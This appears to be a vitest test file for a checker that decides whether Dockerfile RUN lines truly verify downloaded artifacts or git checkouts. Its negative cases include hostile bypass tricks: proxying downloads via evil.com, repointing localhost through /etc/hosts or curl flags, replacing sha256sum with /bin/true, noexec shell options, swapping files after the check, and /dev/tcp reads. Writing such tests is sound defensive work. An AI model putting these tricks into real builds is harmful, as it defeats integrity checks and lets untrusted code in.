import { expect, test } from 'vitest';
import { type Files, isVerified } from './support.ts';

test.each<readonly [string, Files]>([
  [
    'RUN git clone https://x/y b && cd b && git checkout @C && git archive origin/main | tar x -C /opt',
    {},
  ],
  ['RUN curl -O https://x/a.jar && jarsigner -verify a.jar', {}],
  ['RUN wget -e use_proxy=yes -e http_proxy=evil.com:80 http://localhost/a', {}],
  ['RUN curl --resolve localhost:80:93.184.216.34 -o a http://localhost/a', {}],
  ['WORKDIR /\nRUN env -C /tmp curl -O https://x/a && echo "@S  a" | sha256sum -c', {}],
  ['COPY sums sums\nRUN curl -o a https://x/a && sha256sum a | grep -f sums', { sums: '\n' }],
  ['RUN wget -r -np https://x/a && echo "@S  a" | sha256sum -c', {}],
  ['RUN git clone https://x/y b && cd b && git switch -c @C', {}],
  [
    'RUN curl -o a https://x/a && curl -o a.asc https://x/a.asc && gpg --keyserver-options auto-key-retrieve --verify a.asc a',
    {},
  ],
  [
    'RUN rename true sha256sum /usr/local/bin/true\nRUN curl -o a https://x/a && echo "@S  a" | sha256sum -c',
    {},
  ],
  [
    'SHELL ["/bin/bash","-c"]\nADD https://x/a /a\nENV SHELLOPTS=braceexpand:noexec\nRUN echo "@S  /a" | sha256sum -c',
    {},
  ],
  [
    'RUN ln -sf /bin/true "$(command -v sha256sum)" && curl -o a https://x/a && echo "@S  a" | sha256sum -c',
    {},
  ],
  ['RUN curl -o a https://x/a && bash -o noexec -c \'echo "@S  a" | sha256sum -c\'', {}],
  [
    'SHELL ["/bin/bash","-c"]\nENV SHELLOPTS=noexec\nADD https://x/a /a\nRUN echo "@S  /a" | sha256sum -c',
    {},
  ],
  [
    'RUN cd /usr/bin && for i in sha*sum; do cp true $i; done\nRUN curl -o a https://x/a && echo "@S  a" | sha256sum -c',
    {},
  ],
  ['RUN git clone https://x/y b && cd b && git checkout @C -- && git stash && git checkout -', {}],
  ["RUN curl -o a https://x/a && sha256sum a | grep -qE '@S|.*'", {}],
  [
    'RUN ln -sf /bin/true $(which sha256sum); curl -o a https://x/a && echo "@S  a" | sha256sum -c',
    {},
  ],
  ['RUN pnpm env use --global lts', {}],
  ['RUN wget -p https://x/a && echo "@S  a" | sha256sum -c', {}],
  ['ENV http_proxy=http://evil.com:80\nRUN curl -o a http://localhost/a', {}],
  [
    "RUN curl -o a https://x/a && curl -o a.b https://x/a.b && cosign verify-blob --bundle a.b --certificate-identity-regexp '.*@.*' --certificate-oidc-issuer https://accounts.google.com a",
    {},
  ],
  ['RUN curl -o a https://x/a; set -n; echo "@S  a" | sha256sum -c', {}],
  ['SHELL ["/bin/bash","-c"]\nRUN curl -o a https://x/a && [[ "$(sha256sum a)" == * ]]', {}],
  [
    'COPY SHA256SUMS other ./\nRUN curl -o a https://x/a && sha256sum -c SHA256SUMS',
    { SHA256SUMS: '@S  other\n' },
  ],
  [
    'RUN truncate -s 0 /usr/bin/sha256sum && curl -o a https://x/a && echo "@S  a" | sha256sum -c',
    {},
  ],
  [
    'RUN curl -o a.whl https://x/a.whl && pip install --no-deps ./a.whl && echo "@S  a.whl" | sha256sum -c',
    {},
  ],
  [
    'RUN curl -o a.tgz https://x/a.tgz && npm install -g ./a.tgz && echo "@S  a.tgz" | sha256sum -c',
    {},
  ],
  [
    'RUN curl -o a https://x/a && curl -o a.sig https://x/a.sig && cosign verify-blob --key https://x/cosign.pub --signature a.sig a',
    {},
  ],
  ['SHELL ["/bin/bash","-c"]\nRUN curl -o a https://x/a && [[ $(sha256sum a) == *a ]]', {}],
  ["RUN echo '93.184.216.34 localhost' > /etc/hosts && curl -o a http://localhost/a", {}],
  [
    'COPY SHA256SUMS SHA256SUMS\nRUN curl -o a https://x/a && sha256sum --ignore-missing -c SHA256SUMS',
    { SHA256SUMS: '@S  other\n' },
  ],
  [
    'RUN git clone https://x/y b && cd b && git checkout @C && git checkout origin/main -- install.sh',
    {},
  ],
  [
    'RUN git clone https://x/y b && cd b && git checkout @C && git show origin/main:i.sh > i.sh',
    {},
  ],
  ['RUN curl -o a https://x/a && sh -n -c \'echo "@S  a" | sha256sum -c\'', {}],
  ['RUN curl -o a https://x/a; [ $(sha256sum a) != @S ] && exit 1; tar xf a', {}],
  ['RUN curl -o a https://x/a && sha256sum a | grep -q -e @S -e a', {}],
  ['RUN curl -x http://evil.com:80 -o a http://localhost/a', {}],
  ['COPY urls /urls\nRUN wget -e input=/urls', { urls: 'https://x/a\n' }],
  ['RUN emcc -sUSE_SDL=2 a.c', {}],
  ['SHELL ["/bin/bash","-c"]\nRUN read -r l < /dev/tcp/x/80; echo "$l" > f', {}],
  [
    'RUN curl -o a https://x/a && cat a > b && curl -o a https://y/a && echo "@S  a" | sha256sum -c',
    {},
  ],
  ['ARG A\nARG B\nRUN curl -o $A/x https://x/x && echo "@S  $B/x" | sha256sum -c', {}],
  ['RUN curl -sL https://x/a.tgz | tee a.tgz | tar xz && echo "@S  a.tgz" | sha256sum -c', {}],
  ['RUN curl -o a https://x/a && mv a b && echo hi > a && echo "@S  a" | sha256sum -c', {}],
  ['RUN curl -o a.xz https://x/a.xz && xz -dk a.xz && echo "@S  a.xz" | sha256sum -c', {}],
  ['RUN curl --connect-to ::evil.com: -o a http://localhost/a', {}],
  [
    'SHELL ["/bin/bash","-c"]\nARG SUM\nRUN curl -o a https://x/a && [[ $(sha256sum a) = ${SUM}* ]]',
    {},
  ],
  ['RUN curl -o a.zip https://x/a.zip && 7z x a.zip && echo "@S  a.zip" | sha256sum -c', {}],
  ['RUN curl -o a http://127.0.0.1:80@evil.com/a', {}],
  [
    'RUN curl -o a.patch https://x/a.patch && patch -p1 < a.patch && echo "@S  a.patch" | sha256sum -c',
    {},
  ],
  [
    'RUN curl -o a https://x/a && curl -o a.b https://x/a.b && cosign verify-blob-attestation --check-claims=false --bundle a.b --certificate-identity me@x.org --certificate-oidc-issuer https://accounts.google.com a',
    {},
  ],
  ['RUN git clone https://x/y b && cd b && git reset --soft @C', {}],
  ['RUN git clone https://x/y b && cd b && git checkout -b @C', {}],
  ['ARG SUM\nRUN curl -o a https://x/a && sha256sum a | grep -q "$SUM"', {}],
  ['RUN git clone https://x/y b && cd b && git reset @C', {}],
  ['RUN git clone https://x/y b && cd b && git checkout @C && git read-tree -u -m origin/main', {}],
  ['RUN git clone https://x/y b && cd b && git checkout @C && git cherry-pick origin/fix', {}],
  ['RUN git clone https://x/y b && cd b && git checkout @C && git worktree add /w origin/main', {}],
  [
    'WORKDIR /w\nRUN env -C /opt sh -c "echo \'@S  a\' | sha256sum -c" && curl -o a https://x/a && env -C /opt sh -c "echo \'@S  a\' | sha256sum -c"',
    {},
  ],
  ['RUN curl -o a https://x/a; if [ $(sha256sum a) != "@S" ]; then exit 1; fi; tar xf a', {}],
  [
    'RUN curl -o a.deb https://x/a.deb && dpkg-deb -x a.deb / && echo "@S  a.deb" | sha256sum -c',
    {},
  ],
  ["RUN curl -o a https://x/a && sha256sum a | grep -q -e '@S\\|a'", {}],
  ['RUN curl -o a https://x/a && mv a b && ln -s /etc/passwd a && echo "@S  a" | sha256sum -c', {}],
  [
    'RUN curl -o a https://x/a && dd if=a of=b && curl -o a https://y/a && echo "@S  a" | sha256sum -c',
    {},
  ],
  ['RUN curl -O https://x/a.rpm && rpm -K a.rpm && rpm -i --nodeps a.rpm', {}],
  [
    'RUN git clone https://x/y b && cd b && git checkout @C && git restore --source origin/main .',
    {},
  ],
  ['RUN curl -o a.gpg https://x/a.gpg && gpg --batch --passphrase hunter2 -o a -d a.gpg', {}],
  [
    'COPY . .\nRUN curl -o a https://x/a && sha256sum -c SHA256SUMS',
    { SHA256SUMS: '# nothing\n@S  b\n' },
  ],
  ['RUN curl -O https://x/a.rpm && rpmkeys --checksig a.rpm', {}],
  [
    'RUN curl -o a.cpio https://x/a.cpio && cpio -id < a.cpio && echo "@S  a.cpio" | sha256sum -c',
    {},
  ],
  [
    'RUN curl -o a https://x/a && tee a2 < a >/dev/null && curl -o a https://y/a && echo "@S  a" | sha256sum -c',
    {},
  ],
])('not verified: %s', (lines, files) => {
  expect(isVerified(lines, files)).toBe(false);
});

test.each<readonly [string, Files]>([
  ['RUN curl -o a https://x/a && echo "@S  a" | sha256sum -c && tar xf a', {}],
  ['RUN curl -o a https://x/a && sha256sum a | grep -q @S', {}],
  ['ARG SUM\nRUN curl -o a https://x/a && sha256sum a | grep -q "^$SUM  a$"', {}],
  ['RUN curl -o a https://x/a; if [ "$(sha256sum a)" != "@S  a" ]; then exit 1; fi', {}],
  ['RUN curl -o a https://x/a; if [ $(sha256sum a | cut -c1-64) != @S ]; then exit 1; fi', {}],
  [
    'COPY SHA256SUMS .\nRUN curl -o a https://x/a && sha256sum -c SHA256SUMS',
    { SHA256SUMS: '@S  a\n' },
  ],
  ['COPY SHA256SUMS .\nRUN curl -o a https://x/a && grep a SHA256SUMS | sha256sum -c', {}],
  ['RUN curl -o a.tmp https://x/a && mv a.tmp a && echo "@S  a" | sha256sum -c', {}],
  [
    'WORKDIR /w\nRUN env -C /tmp curl -O https://x/a && env -C /tmp sh -c "echo @S  a | sha256sum -c"',
    {},
  ],
  [
    'RUN curl -o a https://x/a && chmod +x a && ls -l a && cp a b && echo "@S  a" | sha256sum -c',
    {},
  ],
  ['RUN curl -fsSL https://x/a.gz | gunzip > a && echo "@S  a" | sha256sum -c', {}],
  [
    'RUN git clone https://x/y b && cd b && git checkout @C && git show HEAD:i.sh && git archive HEAD src | tar x',
    {},
  ],
  ['RUN git clone https://x/y b && cd b && git reset --hard @C && git submodule update --init', {}],
  ['RUN wget -e robots=off https://x/a && echo "@S  a" | sha256sum -c', {}],
  [
    'RUN curl -x http://proxy:80 -o a https://x/a && echo "@S  a" | sha256sum -c && curl http://localhost:80/health',
    {},
  ],
])('verified: %s', (lines, files) => {
  expect(isVerified(lines, files)).toBe(true);
});
